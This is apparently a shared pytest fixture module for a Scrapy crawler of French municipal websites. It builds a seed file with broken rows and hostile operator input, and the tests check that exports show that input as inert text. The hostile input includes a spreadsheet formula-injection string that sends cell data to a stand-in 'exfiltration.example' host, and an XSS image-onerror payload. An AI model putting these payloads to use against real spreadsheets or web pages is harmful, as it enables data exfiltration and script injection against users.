"""One real crawl of the sample web's hostile corner, with a few ordinary cities and broken seed
rows, shared by test_hostile_web.py and test_bad_input.py: run once per test session.

The sample web runs in this process (its request log shows what the crawler asked for); the crawl
is the real `scrapy crawl cities` in a child process, through the sample web as its proxy."""
import csv
import functools
import json
import sqlite3
from dataclasses import dataclass, field
from pathlib import Path

from citycrawl.sampleweb import seeds_csv, serve, truth
from tests.conftest import run_scrapy, run_settings

ORDINARY = ("99003", "99006", "99010")  # crawled alongside, as in a real frame
MAX_PAGES = 30
RETRY_TIMES = 1  # the project's setting, given explicitly: the tests count on it
FAST = ["-s", "DOWNLOAD_TIMEOUT=2", "-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_ENABLED=False",
        "-s", "CITYCRAWL_PROGRESS_INTERVAL=2"]

# Rows an operator gets wrong, appended to the frame: (insee_code, name, population, website, the
# column the log names). Each ends in the survey with crawl_status=error, or no_website for an
# empty website (a commune without one is kept in the frame, counted apart).
BROKEN_ROWS = [
    ("99003", "Ville-Doublon", "60000", "http://www.ville-doublon.fr/", "insee_code"),
    ("99202", "Ville-Sans-Site", "60000", "", "website"),
    ("99203", "Ville-Sans-Schéma", "60000", "www.ville-sans-schema.fr", "website"),
    ("99204", "Ville-Innombrable", "beaucoup", "http://www.ville-innombrable.fr/", "population"),
]
# Spreadsheet formulas and markup in operator input: every export must show them as text.
FORMULA_NAMES = ['=HYPERLINK("http://exfiltration.example/?d="&A1;"Mairie")', "@SUM(1+1)", "+33 1 23", "-1+2"]
MARKUP_NAME = '<img src=x onerror=alert("ville")>Ville-Balise'


@dataclass
class Crawl:
    proc: object  # CompletedProcess of `scrapy crawl`
    latest: Path  # exports/latest
    db: Path
    seeds: Path
    requests: list  # (host, path) the sample web received, in order
    broken_lines: dict = field(default_factory=dict)  # name of a broken row -> its line in the file

    @functools.cached_property
    def cities(self) -> dict:
        """insee_code -> row of cities.csv (in file order)."""
        return {row["insee_code"]: row for row in read_csv(self.latest / "cities.csv")}

    @functools.cached_property
    def evidence(self) -> list:
        return read_csv(self.latest / "evidence.csv")

    @functools.cached_property
    def run(self) -> dict:
        return json.loads((self.latest / "run.json").read_text(encoding="utf-8"))

    def pages(self, city: str) -> list:
        """(url, status, error) of the pages stored for a city."""
        with sqlite3.connect(self.db) as db:
            return db.execute("SELECT url, status, error FROM pages WHERE city = ?", (city,)).fetchall()

    def requested(self, host: str) -> list:
        return [path for h, path in self.requests if h == host]


def read_csv(path: Path) -> list:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def write_frame(path: Path) -> dict:
    """The sample web's hostile frame, with a few ordinary cities, broken rows and formula names,
    saved as French Excel does: Windows-1252, ';' between cells. Returns {name: line} of broken rows."""
    generated = path.with_suffix(".utf8.csv")
    seeds_csv(generated, hostile=True)
    with open(generated, newline="", encoding="utf-8") as f:
        header, *rows = csv.reader(f)
    rows = [r for r in rows if r[0] in ORDINARY or r[0] >= "99100"]
    column = {name: i for i, name in enumerate(header)}

    def row(code, name, population, website):
        cells = [""] * len(header)
        for key, value in (("insee_code", code), ("name", name), ("population", population),
                           ("website", website), ("region", "11")):
            cells[column[key]] = value
        return cells

    rows += [row(f"9930{i}", name, "70000", f"http://www.ville-formule-{i}.fr/")
             for i, name in enumerate([*FORMULA_NAMES, MARKUP_NAME], 1)]
    first_broken = len(rows) + 2  # header is line 1
    rows += [row(*broken[:4]) for broken in BROKEN_ROWS]
    rows.append([*row("99205", "Ville-Débordante", "70000", "http://www.ville-debordante.fr/"), "en trop"])
    with open(path, "w", newline="", encoding="cp1252") as f:
        csv.writer(f, delimiter=";").writerows([header, *rows])
    names = [b[1] for b in BROKEN_ROWS] + ["Ville-Débordante"]
    return {name: first_broken + i for i, name in enumerate(names)}


def crawl(folder: Path, *extra, only=None) -> Crawl:
    seeds = folder / "seeds.csv"
    broken_lines = write_frame(seeds)
    args = ["crawl", "cities", "-a", f"seeds={seeds}", *run_settings(folder), *FAST,
            "-s", f"CITYCRAWL_MAX_PAGES={MAX_PAGES}", "-s", f"RETRY_TIMES={RETRY_TIMES}",
            "-s", "MEMUSAGE_CHECK_INTERVAL_SECONDS=0.5", *extra]  # memusage/max in run.json: sampled often
    if only:
        args += ["-a", f"only={only}"]
    with serve(hostile=True) as web:
        proc = run_scrapy(*args, env={"http_proxy": web.proxy_url}, timeout=120)
        requests = list(web.requests)
    return Crawl(proc, folder / "exports" / "latest", folder / "citycrawl.sqlite", seeds, requests,
                 broken_lines)


_shared = {}


def shared_crawl(tmp_path_factory) -> Crawl:
    """The session's one crawl of the whole hostile frame (each test module asks for it)."""
    if "crawl" not in _shared:
        _shared["crawl"] = crawl(tmp_path_factory.mktemp("hostile"))
    return _shared["crawl"]


EXPECTED = {c.insee_code: c for c in truth(hostile=True).cities}
